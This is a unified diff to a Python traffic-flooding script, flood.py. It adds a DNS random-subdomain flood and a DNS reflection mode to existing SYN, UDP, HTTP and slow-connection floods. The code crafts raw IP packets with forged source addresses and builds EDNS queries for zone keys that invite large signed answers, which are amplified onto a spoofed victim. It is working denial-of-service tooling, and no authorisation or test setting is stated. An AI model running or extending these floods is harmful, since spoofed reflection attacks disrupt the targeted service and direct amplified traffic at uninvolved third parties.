@@ -4,6 +4,8 @@
 flood.py honest ADDRESS PORT HOST RATE SECONDS   open loop: a page on a new connection, from 50 addresses in turn; each has three seconds.
                                                  Prints "ASKED ANSWERED P50_MS P99_MS"
 flood.py syn|udp ADDRESS PORT RATE SECONDS       packets from forged addresses, none twice soon
+flood.py dns ADDRESS PORT RATE SECONDS ZONE       questions for made-up names of the zone from forged addresses
+flood.py reflect ADDRESS PORT RATE SECONDS ZONE   questions for the zone's keys, all as if 8.8.4.1 had asked
 flood.py http ADDRESS PORT HOST RATE SECONDS     requests from four addresses, answers unread
 flood.py requests ADDRESS PORT HOST SOURCES EACH SECONDS   from so many addresses, so many connections each, the next request as soon as one is answered
 flood.py header|body|read ADDRESS PORT HOST SOURCES HELD SECONDS   slow ones, from so many addresses: so many connections are held, whatever the other side
@@ -51,7 +53,14 @@ async def honest(address, port, host, rate, seconds):
     print(len(done), len(good), *(("%.0f" % good[int(len(good) * q)]) if good else "-" for q in (0.5, 0.99)))
 
 
-def forged(kind, address, port, rate, seconds):
+def question(zone, made_up):
+    labels = (["%012x" % random.getrandbits(48)] if made_up else []) + zone.split(".")
+    name = b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0"
+    # one question, and what EDNS adds: 1,232 bytes may come back, signatures too
+    return struct.pack("!HHHHHH", random.getrandbits(16), 0, 1, 0, 0, 1) + name + struct.pack("!HH", 1 if made_up else 48, 1) + b"\0" + struct.pack("!HHIH", 41, 1232, 0x8000, 0)
+
+
+def forged(kind, address, port, rate, seconds, zone=""):
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     to = socket.inet_aton(address)
     d1, d2 = struct.unpack("!HH", to)
@@ -60,12 +69,16 @@ def forged(kind, address, port, rate, seconds):
         a, b, sport = random.randrange(0x0b00, 0x7e00), random.randrange(1, 65535), random.randrange(1024, 65536)
         if kind == "udp":
             body = struct.pack("!HHHH", sport, port, 8 + 64, 0) + b"x" * 64
+        elif kind in ("dns", "reflect"):
+            a, b = (a, b) if kind == "dns" else (0x0808, 0x0401)
+            asked = question(zone, kind == "dns")
+            body = struct.pack("!HHHH", sport, port, 8 + len(asked), 0) + asked
         else:
             total = a + b + d1 + d2 + 6 + 20 + sport + port + 1 + 0x5002 + 65535
             while total >> 16:
                 total = (total & 0xFFFF) + (total >> 16)
             body = struct.pack("!HHIIHHHH", sport, port, 1, 0, 0x5002, 65535, ~total & 0xFFFF, 0)
-        head = struct.pack("!BBHHHBBHHH4s", 0x45, 0, 20 + len(body), 0, 0, 64, 17 if kind == "udp" else 6, 0, a, b, to)
+        head = struct.pack("!BBHHHBBHHH4s", 0x45, 0, 20 + len(body), 0, 0, 64, 6 if kind == "syn" else 17, 0, a, b, to)
         try:
             s.sendto(head + body, (address, 0))
         except OSError:
@@ -181,8 +194,8 @@ def main():
         asyncio.run(requests(address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])))
     elif kind in SLOW:
         slow(kind, address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
-    elif kind in ("syn", "udp"):
-        forged(kind, address, port, float(sys.argv[4]), float(sys.argv[5]))
+    elif kind in ("syn", "udp", "dns", "reflect"):
+        forged(kind, address, port, float(sys.argv[4]), float(sys.argv[5]), *sys.argv[6:])
     else:
         http(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6]))
 
